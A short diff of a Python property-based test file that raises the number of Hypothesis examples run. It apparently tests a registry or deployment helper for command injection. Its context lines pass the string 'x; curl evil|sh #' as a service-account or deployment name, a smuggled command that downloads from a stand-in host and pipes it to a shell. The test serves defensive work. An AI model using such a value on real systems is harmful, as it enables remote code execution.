@@ -200,7 +200,7 @@ def without_account(service_account: str) -> tuple[Scene, t.Callable[..., Regist
     return scene, lambda *_arguments: RegistryState(pods=[Answer("openclaw/openclaw", "", "unauthorized")])
 
 
-@settings(max_examples=300)
+@settings(max_examples=3 * settings().max_examples)
 @given(scenes())
 @example(attacked("x; curl evil|sh #", "x"))
 @example(attacked("Deployment", "x; curl evil|sh #"))
